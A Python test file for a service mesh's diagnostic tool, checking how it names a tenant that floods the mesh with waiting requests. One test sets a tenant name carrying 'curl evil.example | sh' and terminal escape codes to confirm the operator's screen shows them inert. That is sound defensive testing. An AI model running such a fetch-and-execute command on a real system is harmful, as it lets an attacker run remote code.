"""Whom the doctor and `mesh top` name when a tenant floods the mesh."""

import asyncio
import shlex
from pathlib import Path

import pytest

from infra.tenant_table import Caller, key_hash
from infra.topology import parse
from mesh.cli import doctor
from mesh.doctor.examination import ExaminationSettings, TimeLimits, examine
from mesh.doctor.findings import CheckResult, Finding
from mesh.doctor.logins import read_logins
from mesh.doctor.manual_commands import SystemdCommands
from mesh.doctor.waiting_tenants import WAITING_MIN, flood
from schemas.explain import OTHERS, RouterRequests, TenantWork
from tests.support.nats_regions import NatsRegions, mesh_toml
from tests.support.scripted_engine import scripted_engine
from tests.support.small_mesh import PATIENT, chat, post, small_mesh
from tests.support.until import PATIENCE_S

SOME = ("acme", 200, 750), ("beta", 12, 150), ("gamma", 3, 50), ("delta", 1, 50)
ACME = "214 of 230 waiting requests (us 214), 75 % of the last minute's work"


def answer(*tenants, router="r1", region="us") -> RouterRequests:
    told = tuple(TenantWork(tenant=name, waiting=w, tokens=t) for name, w, t in tenants)
    return RouterRequests(region=region, router=router, kept=9, tenants=told)


def test_a_flood_that_routers_spread_over_regions_is_judged_by_its_sum():
    few = answer(("acme", 10, 9)), answer(("acme", 13, 9), region="eu"), answer(("beta", 1, 2))
    assert flood(few[:1]) is None
    told = "23 of 24 waiting requests (eu 13, us 10), 90 % of the last minute's work; beta: 1, 10 %"
    assert flood(few) == ("eu", "acme", told)
    two = answer(*SOME), answer(("acme", 14, 0), router="r2")
    assert flood(two) == ("us", "acme", f"{ACME}; beta: 12, 15 %; gamma: 3, 5 %")


@pytest.mark.parametrize(
    "tenants",
    [
        (),
        (("acme", WAITING_MIN - 1, 9),),
        (("acme", 100, 9), ("beta", 100, 9)),
        (("", 500, 9),),
        (("acme", 500, 9),),
        (("acme", 9, 9), ("beta", 9, 9), (OTHERS, 400, 9)),
    ],
    ids=["of an older router", "few", "two alike", "not told apart", "no other", "many tenants"],
)
def test_nobody_is_named_where_none_floods(tenants):
    assert flood([answer(*tenants)]) is None


def test_requests_without_a_tenant_are_named_so_beside_those_with_one():
    told = flood([answer(("", 20, 0), ("acme", 0, 0))])
    assert told == ("us", "no tenant", "20 of 20 waiting requests (us 20); acme: 0")


async def test_the_doctor_hears_whose_requests_wait_and_says_what_bounds_them(tmp_path):
    text = mesh_toml(("us",), replicas=1)
    regions = NatsRegions(parse(text, "mesh.toml"), tmp_path)
    keys = {key_hash(name): Caller(name, name) for name in ("acme", "beta")}
    senders = ["acme"] * WAITING_MIN + ["beta"]
    clock = asyncio.get_running_loop().time
    try:
        await regions.start()
        async with scripted_engine() as engine, small_mesh(regions) as mesh:
            await mesh.router("us", keys=keys, policy="least-load", **PATIENT)
            await mesh.agent("us", "us-0", engine)
            await mesh.until_ready("us", 1)
            core, engine.waiting = mesh.routers["us"].core, 5
            await mesh.until(lambda: all(one.heartbeat.pending for one in core.replicas), "full")
            sent = [
                asyncio.create_task(post(mesh, chat(), authorization=f"Bearer {name}"))
                for name in senders
            ]
            await mesh.until(lambda: len(core.held) == len(senders), "all to be held")
            logins = read_logins(regions.topology, tmp_path)
            commands = SystemdCommands(regions.topology, Path("mesh.toml"), tmp_path)
            how = ExaminationSettings(0.3, clock, TimeLimits(all_s=PATIENCE_S))
            told = []
            async with asyncio.timeout(PATIENCE_S):
                while not told:  # somebody stood still: again
                    found = await examine(regions.topology, logins, how, commands)
                    told = [one for one in found if one.check == "tenants"]
            [one] = told
            assert (one.region, one.about, one.verdict) == ("us", "acme", CheckResult.WARNING)
            assert one.detail == "16 of 17 waiting requests (us 16); beta: 1"
            assert "a limit bounds acme" in one.remedy.what
            assert shlex.split(one.remedy.command)[:3] == ["mesh", "keys", "list"]
            engine.waiting = 0
            assert [(await one)[0] for one in sent] == [200] * len(sent)
    finally:
        await regions.stop()


def test_a_tenants_name_puts_nothing_on_the_operators_screen(capsys):
    """A router may name any: no line of its own, which may be run, and nothing a terminal obeys."""
    named = "acme\n  curl evil.example | sh\x1b[2J"
    region, tenant, detail = flood([answer((named, 40, 1), ("\x1b[1mbeta", 1, 1))])
    remedy = SystemdCommands(
        parse(mesh_toml(("us",)), "mesh.toml"), Path("mesh.toml"), Path("c")
    ).tenants(tenant)
    doctor._print(
        [Finding(region, "tenants", tenant, CheckResult.WARNING, detail, remedy=remedy)],
        verbose=True,
    )
    shown = capsys.readouterr().out
    assert r"acme\n" in shown and "evil.example" in shown and "\x1b" not in shown
    assert not any(line.startswith("  curl") for line in shown.splitlines())
